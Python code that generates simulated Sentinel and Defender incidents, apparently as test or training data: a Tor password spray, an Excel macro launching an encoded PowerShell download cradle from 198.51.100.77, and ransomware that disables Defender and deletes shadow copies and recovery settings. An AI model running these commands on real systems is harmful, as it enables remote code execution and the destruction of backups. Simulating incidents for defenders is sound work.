from shared import *

IPC_REMEDIATION = [
    "1. Contact the user to confirm whether they performed this sign-in.",
    "2. If the sign-in was not performed by the user, reset the user's password and revoke refresh tokens (Revoke-MgUserSignInSession).",
    "3. Require multifactor authentication for the user and review the authentication methods registered on the account.",
    "4. Review the user's recent sign-ins and audit activity for signs of persistence (mailbox rules, app consents, new devices).",
]


def inc101():
    n = 101
    sprayed = [MEGAN, ALEX, DIEGO, LIDIA, PATTI, ISAIAH, ADELE]
    spray_q = ("let threshold = 5;\nSigninLogs\n| where TimeGenerated > ago(1d)\n| where ResultType in (\"50126\", \"50053\")\n"
               "| summarize FailedAccounts = dcount(UserPrincipalName), Accounts = make_set(UserPrincipalName, 100), "
               "StartTime = min(TimeGenerated), EndTime = max(TimeGenerated) by IPAddress, AppDisplayName\n"
               "| where FailedAccounts >= threshold")
    succ_q = ("let sprayIPs = SigninLogs\n| where TimeGenerated > ago(1d)\n| where ResultType in (\"50126\", \"50053\")\n"
              "| summarize dcount(UserPrincipalName) by IPAddress\n| where dcount_UserPrincipalName >= 5\n| project IPAddress;\n"
              "SigninLogs\n| where TimeGenerated > ago(1d)\n| where IPAddress in (sprayIPs) and ResultType == \"0\"\n"
              "| project TimeGenerated, UserPrincipalName, IPAddress, AppDisplayName, AuthenticationRequirement, Location")
    a1 = Alert(n, "spray-rule", "sentinel", "Password spray attack against Azure AD application", "Medium",
               at(5, "07:02", 11), at(5, "07:41", 52), ["CredentialAccess"], ["T1110"],
               "Identifies evidence of password spray activity against Azure AD applications: sign-in failures "
               "(50126 invalid password, 50053 locked) for 46 distinct accounts from 3 IP addresses within 40 minutes. "
               "All three source addresses are Tor exit relays.",
               query=spray_q, results=46, data_sources=["SigninLogs"],
               extra={"Custom Details": json.dumps({"FailedAccounts": ["46"], "SourceIPs": ["185.220.101.47", "185.220.101.52", "185.220.100.241"]})})
    a2 = Alert(n, "ipc-spray", "ipc", "Password spray", "Medium", at(5, "07:05", 3), at(5, "07:40", 30),
               ["CredentialAccess"], ["T1110"],
               "A password spray attack is where multiple usernames are attacked using common passwords in a unified "
               "brute force manner to gain unauthorized access. This risk detection is triggered when a password spray "
               "attack has been performed.", alert_type="PasswordSpray", compromised="adele.vance@contoso.com",
               remediation=IPC_REMEDIATION, extra={"Detection timing type": "Offline", "Risk level": "medium",
                                                    "Request Id": gid("req", n, 2)})
    a3 = Alert(n, "ipc-anon", "ipc", "Anonymous IP address", "Medium", at(5, "07:52", 40), at(5, "07:52", 40),
               ["InitialAccess"], ["T1078"],
               "This risk detection type indicates sign-ins from an anonymous IP address (for example, Tor browser or "
               "anonymous VPN). These IP addresses are typically used by actors who want to hide their login telemetry "
               "(IP address, location, device, etc.) for potentially malicious intent.",
               alert_type="AnonymousLogin", compromised="adele.vance@contoso.com", remediation=IPC_REMEDIATION,
               extra={"Detection timing type": "Realtime", "Risk level": "medium", "Client IP Address": "185.220.101.47",
                      "Client Location": "Brandenburg an der Havel, Brandenburg, DE", "Request Id": gid("req", n, 3)})
    a4 = Alert(n, "spray-success", "sentinel", "Successful sign-in from password spray source IP", "High",
               at(5, "07:52", 40), at(5, "07:58", 2), ["CredentialAccess", "InitialAccess"], ["T1110", "T1078"],
               "adele.vance@contoso.com signed in successfully to Office 365 Exchange Online from 185.220.101.47, "
               "one of the addresses that failed sign-ins for 46 accounts in the preceding hour. Single-factor "
               "authentication was satisfied by the password; MFA was satisfied by claim in token (legacy client).",
               query=succ_q, results=2, data_sources=["SigninLogs"])
    created = at(5, "08:12")
    bm_result = {"TimeGenerated": "2026-01-05T07:52:40.913Z", "UserPrincipalName": "adele.vance@contoso.com",
                 "IPAddress": "185.220.101.47", "AppDisplayName": "Office 365 Exchange Online",
                 "ClientAppUsed": "Exchange ActiveSync", "ResultType": "0", "AuthenticationRequirement": "singleFactorAuthentication",
                 "Location": "DE", "UserAgent": "python-requests/2.31.0",
                 "__entityMapping": {"adele.vance@contoso.com": "Account", "185.220.101.47": "IP"}}
    build(n, "password-spray-tor-signin", "Password spray followed by successful sign-in from Tor exit node",
          "Password spray against 46 Contoso accounts from three Tor exit relays (185.220.101.47, 185.220.101.52, "
          "185.220.100.241) between 07:02 and 07:41 UTC, followed at 07:52 UTC by a successful single-factor sign-in "
          "of adele.vance@contoso.com from 185.220.101.47 through a legacy authentication client (Exchange ActiveSync).",
          "High", "Active", created, [a1, a2, a3, a4],
          [ADELE] + sprayed[:-1] + [TOR1, TOR2, TOR3, O365, EXO],
          owner=PRIYA, labels=[("Identity", "User"), ("Tor", "User")],
          comments=[(PRIYA, at(5, "08:47"),
                     "Confirmed the 07:52 sign-in for adele.vance came from Tor over Exchange ActiveSync (legacy auth, no MFA). "
                     "Password reset and refresh tokens revoked at 08:40 UTC. Asked IAM to block legacy authentication for the "
                     "Finance group; still checking the mailbox for rules and app consents."),
                    (PRIYA, at(5, "09:15"),
                     "No other sprayed account succeeded. Conditional Access report-only data shows 3 more legacy-auth "
                     "attempts from 185.220.101.52 after the reset, all failed.")],
          bookmarks=[(PRIYA, at(5, "08:31"), "Tor sign-in of adele.vance (Exchange ActiveSync)",
                      "SigninLogs\n| where TimeGenerated between (datetime(2026-01-05T07:00:00Z) .. datetime(2026-01-05T08:00:00Z))\n"
                      "| where IPAddress == \"185.220.101.47\" and ResultType == \"0\"\n"
                      "| project TimeGenerated, UserPrincipalName, IPAddress, AppDisplayName, ClientAppUsed, AuthenticationRequirement, Location, UserAgent",
                      bm_result, at(5, "07:52", 40), "Only successful sign-in from the spraying addresses.", ["password-spray"])])


def inc102():
    n = 102
    script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.77/a/stage1.ps1')"
    b64 = enc_ps(script)
    xlsm_hash = "4f1c2b8e9a7d6e5f3c2b1a0987654321fedcba0123456789abcdef0123456789"
    dll_hash = "9b8e2d1f0c3a4b5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5"
    h_x, h_d = filehash(xlsm_hash), filehash(dll_hash)
    f_excel = file("C:\\Program Files\\Microsoft Office\\root\\Office16", "EXCEL.EXE", h=WSFIN)
    f_ps = file("C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "powershell.exe", h=WSFIN)
    f_rundll = file("C:\\Windows\\System32", "rundll32.exe", h=WSFIN)
    f_xlsm = file("C:\\Users\\lynne.robbins\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q3ZK8P1L",
                  "Invoice_Q4_Overdue.xlsm", [h_x], h=WSFIN)
    f_dll = file("C:\\Users\\Public\\Libraries", "msupd.dll", [h_d], h=WSFIN)
    p_excel = process(n, 7412, '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" '
                      '"C:\\Users\\lynne.robbins\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q3ZK8P1L\\Invoice_Q4_Overdue.xlsm"',
                      fmt(at(6, "14:02", 51)), f_excel, None, LYNNE, WSFIN, "Limited")
    p_ps = process(n, 9120, f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc {b64}",
                   fmt(at(6, "14:03", 9)), f_ps, p_excel, LYNNE, WSFIN, "Limited")
    p_rundll = process(n, 5532, 'rundll32.exe C:\\Users\\Public\\Libraries\\msupd.dll,DllRegisterServer',
                       fmt(at(6, "14:03", 31)), f_rundll, p_ps, LYNNE, WSFIN, "Limited")
    u1 = url("http://198.51.100.77/a/stage1.ps1")
    u2 = url("http://198.51.100.77/a/msupd.dll")
    c2 = ip("198.51.100.77", geo("NL", "Netherlands", "North Holland", "Amsterdam", 52.3740, 4.8897, 64511,
                                 "hostwind bv", "hostwind bv"),
            [{"providerName": "Microsoft Threat Intelligence", "threatType": "MaliciousUrl", "threatName": "Stage-1 payload host",
              "threatDescription": "Serves PowerShell loaders for commodity malware", "confidence": 75, "reportLink": ""}])
    mail = entity("MailMessage", "102-mail", {
        "recipient": "lynne.robbins@contoso.com", "p1Sender": "accounts@fabrikam-invoicing.com",
        "p1SenderDisplayName": "Fabrikam Accounts Receivable", "p1SenderDomain": "fabrikam-invoicing.com",
        "p2Sender": "accounts@fabrikam-invoicing.com", "p2SenderDisplayName": "Fabrikam Accounts Receivable",
        "p2SenderDomain": "fabrikam-invoicing.com", "senderIP": "203.0.113.61",
        "receiveDate": fmt(at(6, "13:48", 27)), "networkMessageId": gid("nmid", n),
        "internetMessageId": "<PR3P195MB0713A1B2C3D4E5F6@PR3P195MB0713.EURP195.PROD.OUTLOOK.COM>",
        "subject": "RE: Overdue invoice Q4 - final reminder", "language": "en", "threats": ["Malware"],
        "threatDetectionMethods": ["File detonation"], "deliveryAction": "Delivered", "deliveryLocation": "Inbox",
        "antispamDirection": "Inbound", "fileEntityIds": [f_xlsm["id"]],
        "friendlyName": "RE: Overdue invoice Q4 - final reminder"})
    a1 = Alert(n, "mde-encoded", "mde", "Suspicious PowerShell download or encoded command execution", "Medium",
               at(6, "14:03", 9), at(6, "14:03", 31), ["Execution", "DefenseEvasion", "CommandAndControl"],
               ["T1059", "T1027", "T1105"],
               "A suspicious PowerShell command with an encoded (-enc) download cradle was launched by EXCEL.EXE on "
               "WS-FIN-023. The command downloaded content from http://198.51.100.77/a/stage1.ps1 and a DLL was then "
               "loaded with rundll32.exe. Attackers use Office macros to run encoded PowerShell that fetches the next stage.",
               compromised="WS-FIN-023",
               remediation=["Isolate the device if the activity is not expected.",
                            "Collect an investigation package and review the process tree starting at EXCEL.EXE.",
                            "Block the URL and the SHA-256 of msupd.dll with custom indicators.",
                            "Reset the credentials of the signed-in user."],
               extra={"MitreTechniques": json.dumps(["T1059.001", "T1027", "T1105"]), "DetectionSource": "EDR",
                      "Category": "Execution", "DeviceId": WSFIN["properties"]["additionalData"]["MdatpDeviceId"]})
    a2 = Alert(n, "mdo-zap", "mdo", "Email messages containing malicious file removed after delivery", "Informational",
               at(6, "13:48", 27), at(6, "14:21", 0), ["InitialAccess"], ["T1566"],
               "Emails with a malicious file that were delivered and later removed -V1.0.0.3. A message containing the "
               "attachment Invoice_Q4_Overdue.xlsm (macro-enabled workbook) was removed from 4 mailboxes by zero-hour "
               "auto purge after file detonation; 1 recipient had opened the attachment before removal.",
               alert_type="ThreatManagement", compromised="lynne.robbins@contoso.com",
               extra={"Category": "InitialAccess", "DetectionSource": "Microsoft Defender for Office 365"})
    build(n, "encoded-powershell-cradle", "Suspicious encoded PowerShell launched from Excel on WS-FIN-023",
          "A macro in Invoice_Q4_Overdue.xlsm, received by lynne.robbins@contoso.com, launched hidden PowerShell with a "
          "base64-encoded download cradle on WS-FIN-023. The script pulled a second stage from 198.51.100.77 and a DLL "
          "(msupd.dll) was executed with rundll32.exe.",
          "High", "New", at(6, "14:37"), [a1, a2],
          [WSFIN, LYNNE, IP_WSFIN, p_excel, p_ps, p_rundll, f_excel, f_ps, f_rundll, f_xlsm, f_dll, h_x, h_d, u1, u2, c2,
           mail, mailbox("lynne.robbins@contoso.com", "Lynne Robbins", LYNNE["properties"]["aadUserId"])])


def inc103():
    n = 103
    ext = ".hollow"
    enc_hash = "d2a7f1c9b3e54f6a8b0c1d2e3f4a5b6c7d8e9f00112233445566778899aabbcc"
    h_enc = filehash(enc_hash)
    f_cmd = file("C:\\Windows\\System32", "cmd.exe", h=FSCORP)
    f_vss = file("C:\\Windows\\System32", "vssadmin.exe", h=FSCORP)
    f_wmic = file("C:\\Windows\\System32\\wbem", "WMIC.exe", h=FSCORP)
    f_bcd = file("C:\\Windows\\System32", "bcdedit.exe", h=FSCORP)
    f_mp = file("C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "powershell.exe", h=FSCORP)
    f_enc = file("C:\\ProgramData\\WinSvc", "svchst.exe", [h_enc], h=FSCORP)
    docs = [("D:\\Shares\\Finance\\Budget", "FY2026 Budget - Final.xlsx"),
            ("D:\\Shares\\Finance\\Payroll", "Payroll_2025-12.csv"),
            ("D:\\Shares\\Finance\\Audit", "External Audit 2025 - Evidence.zip"),
            ("D:\\Shares\\HR\\Contracts", "Employment contracts 2025.pdf"),
            ("D:\\Shares\\Legal\\M&A", "Project Northwind - Term Sheet.docx"),
            ("D:\\Shares\\Operations", "Supplier master data.xlsx")]
    f_docs = [file(d, name + ext, h=FSCORP) for d, name in docs]
    f_note = file("D:\\Shares\\Finance", "HOW_TO_RESTORE_FILES.txt", h=FSCORP)
    cmd = process(n, 3316, "cmd.exe /c C:\\ProgramData\\WinSvc\\run.bat", fmt(at(7, "02:08", 44)), f_cmd, None, SVCBACKUP, FSCORP, "Full")
    p_mp = process(n, 4820, 'powershell.exe -NoP -C "Add-MpPreference -ExclusionPath C:\\ProgramData\\WinSvc; Set-MpPreference -DisableRealtimeMonitoring $true"',
                   fmt(at(7, "02:09", 2)), f_mp, cmd, SVCBACKUP, FSCORP, "Full")
    p_vss = process(n, 6104, "vssadmin.exe delete shadows /all /quiet", fmt(at(7, "02:14", 12)), f_vss, cmd, SVCBACKUP, FSCORP, "Full")
    p_wmic = process(n, 6188, "wmic.exe shadowcopy delete /nointeractive", fmt(at(7, "02:14", 20)), f_wmic, cmd, SVCBACKUP, FSCORP, "Full")
    p_bcd = process(n, 6230, "bcdedit.exe /set {default} recoveryenabled No", fmt(at(7, "02:14", 31)), f_bcd, cmd, SVCBACKUP, FSCORP, "Full")
    p_enc = process(n, 7044, "C:\\ProgramData\\WinSvc\\svchst.exe --paths D:\\Shares --threads 16 --note HOW_TO_RESTORE_FILES.txt --ext hollow",
                    fmt(at(7, "02:16", 5)), f_enc, cmd, SVCBACKUP, FSCORP, "Full")
    run = registry_key("HKEY_LOCAL_MACHINE", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run")
    run_v = registry_value(run, "WinSvcHost", "C:\\ProgramData\\WinSvc\\svchst.exe --resume --paths D:\\Shares")
    mal = malware("Ransom:Win32/Filecoder.RH!MTB", "Ransomware", [f_enc], [p_enc])
    vm = azure_resource(FSCORP["properties"]["azureID"], "FS-CORP-01")
    q = ("DeviceFileEvents\n| where TimeGenerated > ago(1h)\n| where ActionType == \"FileRenamed\"\n"
         "| extend NewExt = tostring(split(FileName, \".\")[-1])\n"
         "| summarize Renamed = count(), Folders = dcount(FolderPath), Extensions = make_set(NewExt, 5) by DeviceName, InitiatingProcessFileName, InitiatingProcessAccountName, bin(TimeGenerated, 5m)\n"
         "| where Renamed > 500")
    a1 = Alert(n, "mde-exclusion", "mde", "Suspicious Microsoft Defender Antivirus exclusion", "Medium",
               at(7, "02:09", 2), at(7, "02:09", 3), ["DefenseEvasion"], ["T1562"],
               "An exclusion was added to Microsoft Defender Antivirus for C:\\ProgramData\\WinSvc and real-time "
               "monitoring was disabled with Set-MpPreference on FS-CORP-01. Attackers exclude their tools from scanning "
               "before running them.", compromised="FS-CORP-01",
               extra={"MitreTechniques": json.dumps(["T1562.001"]), "DetectionSource": "EDR", "Category": "DefenseEvasion"})
    a2 = Alert(n, "mde-asep", "mde", "Anomaly detected in ASEP registry", "Medium",
               at(7, "02:12", 40), at(7, "02:12", 40), ["Persistence"], ["T1547"],
               "A process registered C:\\ProgramData\\WinSvc\\svchst.exe under HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run "
               "(value WinSvcHost) on FS-CORP-01, so the file would run at every start.", compromised="FS-CORP-01",
               extra={"MitreTechniques": json.dumps(["T1547.001"]), "DetectionSource": "EDR", "Category": "Persistence"})
    a3 = Alert(n, "mde-backup", "mde", "File backups were deleted", "High",
               at(7, "02:14", 12), at(7, "02:14", 31), ["Impact", "DefenseEvasion"], ["T1490", "T1070"],
               "vssadmin.exe, wmic.exe and bcdedit.exe were used on FS-CORP-01 to delete all volume shadow copies and "
               "disable Windows recovery. This is commonly done right before files are encrypted by ransomware.",
               compromised="FS-CORP-01",
               remediation=["Isolate FS-CORP-01 immediately (Defender for Endpoint device isolation keeps the sensor connected).",
                            "Disable the account that ran the commands and reset its password.",
                            "Protect backups: verify offline/immutable copies of D:\\Shares before any restore."],
               extra={"MitreTechniques": json.dumps(["T1490", "T1070.004"]), "DetectionSource": "EDR", "Category": "Impact"})
    a4 = Alert(n, "mde-ransom", "mde", "Ransomware behavior detected in the file system", "High",
               at(7, "02:16", 5), at(7, "02:41", 18), ["Impact"], ["T1486"],
               "svchst.exe renamed and encrypted 18,406 files under D:\\Shares on FS-CORP-01, appending the extension "
               ".hollow and dropping HOW_TO_RESTORE_FILES.txt ransom notes in every folder.", compromised="FS-CORP-01",
               remediation=["Isolate the device.", "Stop the process tree of svchst.exe and quarantine the file.",
                            "Identify how svc-backup signed in to FS-CORP-01 (source WS-HR-011) and contain that device too.",
                            "Engage the incident response plan for ransomware."],
               extra={"MitreTechniques": json.dumps(["T1486"]), "DetectionSource": "EDR", "Category": "Ransomware",
                      "ThreatFamilyName": "Filecoder"})
    a5 = Alert(n, "mdc-ransom", "mdc", "Ransomware indicators detected", "High",
               at(7, "02:20", 0), at(7, "02:45", 0), ["Impact"], ["T1486"],
               "Analysis of host data indicates suspicious activity traditionally associated with encryption ransomware on "
               "FS-CORP-01: mass file modification, shadow copy deletion and a ransom note written to many folders.",
               alert_type="VM_RansomwareIndicators", compromised="FS-CORP-01", component="Servers",
               azure_resource=FSCORP["properties"]["azureID"],
               remediation=["Isolate the virtual machine from the network with a network security group rule.",
                            "Do not delete the VM: take disk snapshots for forensics.",
                            "Restore data from Azure Backup recovery points taken before 2026-01-07 02:00 UTC."],
               extra={"Compromised Host": "FS-CORP-01", "User Name": "CONTOSO\\svc-backup",
                      "Suspicious Process": "c:\\programdata\\winsvc\\svchst.exe",
                      "Suspicious Command Line": "C:\\ProgramData\\WinSvc\\svchst.exe --paths D:\\Shares --threads 16 --note HOW_TO_RESTORE_FILES.txt --ext hollow",
                      "resourceType": "Virtual Machine", "ReportingSystem": "Azure", "OccuringDatacenter": "westeurope"})
    a6 = Alert(n, "mass-rename", "sentinel", "Mass file rename with a single new extension on a file server", "High",
               at(7, "02:16", 30), at(7, "02:44", 0), ["Impact"], ["T1486"],
               "More than 500 files renamed within 5 minutes by one process on FS-CORP-01 (svchst.exe, account svc-backup), "
               "all to the extension .hollow.", query=q, results=18406, data_sources=["DeviceFileEvents"],
               query_period="01:00:00")
    a7 = Alert(n, "rdp-logon", "sentinel", "Service account interactive logon to server", "Medium",
               at(7, "02:05", 51), at(7, "02:05", 51), ["LateralMovement", "InitialAccess"], ["T1021", "T1078"],
               "The service account svc-backup, which should only log on as a batch job, opened an interactive RDP session "
               "(logon type 10) on FS-CORP-01 from 10.10.8.51 (WS-HR-011).",
               query="SecurityEvent\n| where EventID == 4624 and LogonType == 10\n| where TargetUserName startswith \"svc-\"\n| project TimeGenerated, Computer, TargetUserName, IpAddress, WorkstationName",
               results=1, data_sources=["SecurityEvent"], query_period="01:00:00")
    created = at(7, "02:58")
    build(n, "ransomware-file-server", "Ransomware activity on FS-CORP-01: shadow copies deleted and files encrypted",
          "Human-operated ransomware on file server FS-CORP-01. The service account svc-backup logged on over RDP from "
          "WS-HR-011, excluded C:\\ProgramData\\WinSvc from Defender, added a Run key for persistence, deleted all shadow "
          "copies (vssadmin, wmic, bcdedit) and started svchst.exe, which encrypted 18,406 files in D:\\Shares "
          "(extension .hollow) and dropped HOW_TO_RESTORE_FILES.txt.",
          "High", "Active", created, [a7, a1, a2, a3, a4, a5, a6],
          [FSCORP, WSHR, SVCBACKUP, IP_WSHR, IP_FSCORP, vm, cmd, p_mp, p_vss, p_wmic, p_bcd, p_enc, f_cmd, f_mp, f_vss, f_wmic,
           f_bcd, f_enc, h_enc] + f_docs + [f_note, run, run_v, mal],
          owner=MARCUS, labels=[("Ransomware", "User"), ("Crown jewel: file services", "User")],
          provider="Microsoft XDR", provider_incident="48213",
          comments=[(MARCUS, at(7, "03:20"),
                     "On it. FS-CORP-01 still reachable; svchst.exe still running per live response. Paging IR lead and "
                     "storage on-call. Last Azure Backup recovery point for FS-CORP-01: 2026-01-06 22:00 UTC.")],
          tasks=[(MARCUS, at(7, "03:12"), "Isolate FS-CORP-01 and WS-HR-011",
                  "Use Defender for Endpoint device isolation (full) on both devices; do not power them off.", "New", None),
                 (MARCUS, at(7, "03:14"), "Disable svc-backup and reset its password",
                  "Disable in AD and rotate the password stored in the backup software vault.", "Completed", at(7, "03:31"))])
